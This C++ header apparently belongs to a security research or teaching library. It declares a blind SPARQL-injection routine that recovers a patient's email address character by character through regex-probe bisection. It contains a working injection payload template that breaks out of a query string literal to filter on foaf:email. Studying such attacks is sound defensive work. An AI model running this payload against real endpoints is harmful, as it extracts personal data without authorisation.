#pragma once

#include <stdexcept>
#include <string>
#include <vector>

#include "sparqlsec/attack/target.hpp"

namespace sparqlsec::attack {

/// Both branches of the channel look the same, so nothing can be learned.
class extraction_impossible : public std::runtime_error {
public:
    using std::runtime_error::runtime_error;
};

struct blind_options {
    /// First name of the patient whose email is recovered.
    std::string target = "Ben";
    std::size_t max_len = 4;
    service::endpoint_mode mode = service::endpoint_mode::vulnerable;
    /// Search payload with `@{target}`, `@{regex}` and `@{flags}` holes.
    std::string probe_template =
        "Sam\".\n?c foaf:firstName \"@{target}\".\n?c foaf:email ?n.\nFILTER regex(?n, \"@{regex}\", \"@{flags}\") }#";
};

struct probe_record {
    std::string regex;
    std::string flags;
    service::response_state state = service::response_state::empty;
};

struct blind_result {
    std::string recovered;
    std::size_t probes = 0;
    std::vector<probe_record> log;
};

/// Recovers the prefix of the target's email one character at a time. Each
/// character takes a case-insensitive bisection over the letters plus an
/// end-of-string and a non-letter leaf (at most 5 probes), then one
/// case-sensitive probe for letters. Stops early at end of string or a
/// non-letter. Throws extraction_impossible when the channel shows no
/// difference.
blind_result blind_extract(attack_target &target, const blind_options &options = {});

/// Worst-case probe count for `len` characters.
constexpr std::size_t blind_probe_bound(std::size_t len) noexcept { return len * (5 + 1); }

/// `[a-cx]` style class for a sorted set of lowercase letters.
std::string letter_class(const std::string &letters);

} // namespace sparqlsec::attack
